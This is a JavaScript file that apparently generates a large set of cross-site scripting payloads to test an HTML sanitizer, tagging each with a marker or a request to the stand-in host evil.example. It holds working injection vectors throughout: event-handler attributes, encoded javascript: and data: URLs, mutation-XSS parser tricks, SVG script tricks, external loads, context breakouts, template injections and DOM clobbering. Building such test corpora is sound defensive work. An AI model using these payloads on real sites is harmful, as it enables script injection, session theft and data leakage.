// SPDX-License-Identifier: Apache-2.0
// Texts that try to run a script, to load something from elsewhere or to break the page, each in its own way. Written for these tests; what
// they do if they get through is always the same: window.ran gets their number, or a request goes to evil.example.
const call = (n) => `window.ran=(window.ran||[]).concat(${n})`;
const away = (n) => `//evil.example/x${n}`;

const tags = ['img', 'svg', 'video', 'audio', 'body', 'details', 'input', 'iframe', 'marquee', 'object', 'select', 'textarea', 'button', 'div', 'a', 'math', 'form', 'table', 'style', 'link'];
const events = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onbegin', 'onwheel', 'onresize', 'onanimationend', 'ontransitionrun', 'onfocusin', 'oncontentvisibilityautostatechange'];

/** An attribute that calls, on every tag, written in every way a parser forgives. */
function handlers() {
  const forms = [
    (tag, event, js) => `<${tag} ${event}="${js}" src=x autofocus tabindex=0 open>`,
    (tag, event, js) => `<${tag}/${event}=${js.replace(/[\s"'>]/g, '')} src=x>`,
    (tag, event, js) => `<${tag.toUpperCase()}\n${event.toUpperCase()}\n=\n'${js}' src=//evil.example/i>`,
    (tag, event, js) => `<${tag} x="1"${event}="${js}" src=x>`,
    (tag, event, js) => `"><${tag} ${event}="${js}" src=x>`,
    (tag, event, js) => `'><${tag} ${event}='${js}' src=x>`,
    (tag, event, js) => `<${tag} \u0000${event}="${js}" src=x>`,
    (tag, event, js) => `<x><${tag} ${event}=&#34;${js}&#34; src=x>`,
  ];
  const out = [];
  tags.forEach((tag, i) => events.forEach((event, k) => out.push((n) => forms[(i + k) % forms.length](tag, event, call(n)))));
  return out;
}

/** Addresses that are scripts, wherever an address may stand, hidden in every way. */
function addresses() {
  const places = [
    (url) => `<a href="${url}">open</a>`, (url) => `<iframe src="${url}"></iframe>`, (url) => `<form action="${url}"><button>go</button></form>`, (url) => `<button formaction="${url}">go</button>`,
    (url) => `<object data="${url}"></object>`, (url) => `<embed src="${url}">`, (url) => `<svg><a xlink:href="${url}"><text y=20>x</text></a></svg>`, (url) => `<math href="${url}">x</math>`,
    (url) => `<img src="${url}">`, (url) => `<area href="${url}">`, (url) => `<link rel=stylesheet href="${url}">`, (url) => `<base href="${url}">`, (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  ];
  const hidden = [
    (js) => `javascript:${js}`, (js) => `JaVaScRiPt:${js}`, (js) => ` \u0001javascript:${js}`, (js) => `java\tscript:${js}`, (js) => `java\nscript:${js}`, (js) => `&#106;avascript:${js}`,
    (js) => `&#x6A;&#x61;vascript&colon;${js}`, (js) => `javascript&#58;${js}`, (js) => `data:text/html,<script>${js}</script>`, (js) => `data:text/html;base64,${Buffer.from(`<script>${js}</script>`).toString('base64')}`,
    (js) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>`, (js) => `vbscript:${js}`, (js) => `blob:${js}`, (js) => `//evil.example/?${js.length}`, (js) => `https:/\\evil.example/${js.length}`,
  ];
  const out = [];
  places.forEach((place, i) => hidden.forEach((hide, k) => (i * 3 + k) % 2 === 0 && out.push((n) => place(hide(call(n))))));
  return out;
}

/** What is harmless when it is parsed once and runs when the result is parsed again. */
const mutations = [
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  (js) => `<math><mtext><table><mglyph><style><math href=javascript:${js}>CLICK</math>`,
  (js) => `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`,
  (js) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
  (js) => `<svg><style>&lt;img src=x onerror=${js}&gt;</style></svg>`,
  (js) => `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${js}></style></annotation-xml></math>`,
  (js) => `<svg><foreignObject><math><mi><style><img src=x onerror=${js}></style></mi></math></foreignObject></svg>`,
  (js) => `<template><s><template><s><img src=x onerror=${js}>@</s></template></s></template>`,
  (js) => `<xmp><p title="</xmp><img src=x onerror=${js}>">`,
  (js) => `<noembed><p id="</noembed><svg onload=${js}>">`,
  (js) => `<noframes><p id="</noframes><svg onload=${js}>">`,
  (js) => `<textarea><p id="</textarea><img src=x onerror=${js}>">`,
  (js) => `<title><p id="</title><img src=x onerror=${js}>">`,
  (js) => `<iframe><p id="</iframe><img src=x onerror=${js}>">`,
  (js) => `<plaintext><img src=x onerror=${js}>`,
  (js) => `<!--><img src=x onerror=${js}>-->`,
  (js) => `<!-- --!><img src=x onerror=${js}> -->`,
  (js) => `<![CDATA[><img src=x onerror=${js}>]]>`,
  (js) => `<svg><![CDATA[><img src=x onerror=${js}>]]></svg>`,
  (js) => `<?xml version="1.0"?><img src=x onerror=${js}>`,
  (js) => `<select><option><style></select><img src=x onerror=${js}></style></option></select>`,
  (js) => `<table><td><svg><desc><td><img src=x onerror=${js}></td></desc></svg></td></table>`,
  (js) => `<svg><title><style><img src=x onerror=${js}></style></title></svg>`,
  (js) => `<math><mi><malignmark><mglyph><style><img src=x onerror=${js}></style></mglyph></malignmark></mi></math>`,
  (js) => `<dl><dt><p></dl><math><mtext><dl><dt><style></dl><img src=x onerror=${js}>`,
  (js) => `<a href="x"><a href="y"><table><a href="javascript:${js}">nested</a></table></a></a>`,
  (js) => `<b><p><b><p><b><p><i></b><img src=x onerror=${js}></i>`,
];

const pictures = [
  (n) => `<svg onload="${call(n)}">`, (n) => `<svg><script>${call(n)}</script></svg>`, (n) => `<svg><script href="${away(n)}.js"/></svg>`, (n) => `<svg><script xlink:href="data:,${call(n)}"/></svg>`,
  (n) => `<svg><animate onbegin="${call(n)}" attributeName=x dur=1s>`, (n) => `<svg><set onbegin="${call(n)}" attributeName=x>`, (n) => `<svg><a><animate attributeName=href values="javascript:${call(n)}"/><text x=20 y=20>x</text></a></svg>`,
  (n) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${call(n)}'/></svg>#x"/></svg>`, (n) => `<svg><use href="${away(n)}.svg#x"/></svg>`, (n) => `<svg><image href="${away(n)}.png"/></svg>`,
  (n) => `<svg><foreignObject><iframe srcdoc="<script>parent.${call(n)}</script>"></iframe></foreignObject></svg>`, (n) => `<svg><handler type="text/javascript" ev:event="load">${call(n)}</handler></svg>`,
  (n) => `<svg><feImage href="${away(n)}"/></svg>`, (n) => `<svg><style>@import "${away(n)}.css";</style></svg>`, (n) => `<svg><text style="background:url(${away(n)})">x</text></svg>`, (n) => `<svg><discard onbegin="${call(n)}"/></svg>`,
];

const loads = [
  (n) => `<img src="${away(n)}.png">`, (n) => `<img srcset="${away(n)}.png 1x, ${away(n)}-2.png 2x">`, (n) => `<picture><source srcset="${away(n)}.webp"><img src=x></picture>`, (n) => `<video poster="${away(n)}.png"></video>`,
  (n) => `<video src="${away(n)}.mp4" autoplay></video>`, (n) => `<audio src="${away(n)}.mp3" autoplay></audio>`, (n) => `<input type=image src="${away(n)}.png">`, (n) => `<table background="${away(n)}.png"><td background="${away(n)}-2.png">x</table>`,
  (n) => `<body background="${away(n)}.png">`, (n) => `<div style="background-image:url(${away(n)})">x</div>`, (n) => `<div style="background-image:\\75\\72\\6c(${away(n)})">x</div>`, (n) => `<style>@import url(${away(n)}.css);*{background:url(${away(n)})}</style>`,
  (n) => `<link rel=preload as=image href="${away(n)}">`, (n) => `<link rel=dns-prefetch href="${away(n)}">`, (n) => `<link rel=stylesheet href="${away(n)}.css">`, (n) => `<script src="${away(n)}.js"></script>`, (n) => `<script type=module src="${away(n)}.mjs"></script>`,
  (n) => `<iframe src="${away(n)}"></iframe>`, (n) => `<iframe srcdoc="<script>parent.${call(n)}</script>"></iframe>`, (n) => `<object data="${away(n)}.swf"></object>`, (n) => `<embed src="${away(n)}.swf">`, (n) => `<frameset><frame src="${away(n)}"></frameset>`,
  (n) => `<portal src="${away(n)}"></portal>`, (n) => `<meta http-equiv="refresh" content="0;url=https:${away(n)}">`, (n) => `<meta http-equiv="Content-Security-Policy" content="default-src *">`, (n) => `<base href="https:${away(n)}/">`,
  (n) => `<a href="https:${away(n)}" ping="https:${away(n)}-ping">x</a>`, (n) => `<form action="https:${away(n)}" id=f><input name=q></form><button form=f>x</button>`, (n) => `<html manifest="${away(n)}">`, (n) => `<applet code="${away(n)}">`, (n) => `<bgsound src="${away(n)}">`,
  (n) => `<img src=x lowsrc="${away(n)}">`, (n) => `<xml src="${away(n)}">`, (n) => `<track src="${away(n)}">`, (n) => `<img src="/api/v1/session" onload="${call(n)}">`, (n) => `<div style="content:url(${away(n)});list-style:url(${away(n)});cursor:url(${away(n)}),auto">x</div>`,
];

const breakouts = [
  (n) => `<img src=x:x onerror=${call(n)}>`, (n) => `<img src="x\` \`<script>${call(n)}</script>"\` \`>`, (n) => `<input onfocus=${call(n)} autofocus>`, (n) => `<dialog open onclose=${call(n)}><button>x</button></dialog>`,
  (n) => `<details open ontoggle=${call(n)}><summary>x</summary></details>`, (n) => `<div popover id=p onbeforetoggle=${call(n)}>x</div><button popovertarget=p>y</button>`, (n) => `<video><source onerror=${call(n)}></video>`, (n) => `<style onload=${call(n)}></style>`,
  (n) => `<script>${call(n)}</script>`, (n) => `<ScRiPt>${call(n)}</sCrIpT>`, (n) => `<script\n>${call(n)}</script\n>`, (n) => `<script/x>${call(n)}</script>`, (n) => `<<script>${call(n)}//<</script>`, (n) => `<scr<script>ipt>${call(n)}</scr</script>ipt>`,
  (n) => `</title><script>${call(n)}</script>`, (n) => `</textarea><script>${call(n)}</script>`, (n) => `</style><script>${call(n)}</script>`, (n) => `</script><script>${call(n)}</script>`, (n) => `--><script>${call(n)}</script>`, (n) => `]]><script>${call(n)}</script>`,
  (n) => `"};${call(n)};//`, (n) => `';${call(n)};//`, (n) => `\\";${call(n)};//`, (n) => `{{constructor.constructor('${call(n)}')()}}`, (n) => `\${${call(n)}}`, (n) => `#{${call(n)}}`, (n) => `<%= ${call(n)} %>`, (n) => `[[${call(n)}]]`, (n) => `[x](javascript:${call(n)})`, (n) => `![x](https:${away(n)})`,
  (n) => `%3Cscript%3E${call(n)}%3C/script%3E`, (n) => `&lt;script&gt;${call(n)}&lt;/script&gt;`, (n) => `&amp;lt;img src=x onerror=${call(n)}&amp;gt;`, (n) => `\u003cscript\u003e${call(n)}\u003c/script\u003e`, (n) => `＜script＞${call(n)}＜/script＞`, (n) => `\u2028<script>${call(n)}</script>\u2029`,
  (n) => `javascript:${call(n)}`, (n) => ` javascript:${call(n)}`, (n) => `data:text/html,<script>${call(n)}</script>`, (n) => `https://x"onmouseover="${call(n)}`, (n) => `https:${away(n)}`, (n) => `=HYPERLINK("https:${away(n)}","x")`, (n) => `\u202e<img src=x onerror=${call(n)}>`,
  (n) => `<img name=getElementById id=createElement><form id=body><input name=attributes>${n}</form>`, (n) => `<a id=location href="https:${away(n)}">x</a>`, (n) => `<form name=fetch><input id=session></form>${n}`, (n) => `<object id=root></object><div id=root>${n}</div>`, (n) => `<slot name=x>${n}</slot><div is="x-y" onload="${call(n)}">`,
];

/** Each with the number it answers to. No two are the same. */
export const payloads = [...handlers(), ...addresses(), ...mutations.map((m) => (n) => m(call(n))), ...pictures, ...loads, ...breakouts]
  .map((make, n) => make(n));

if (new Set(payloads).size !== payloads.length) throw new Error('a payload stands twice');
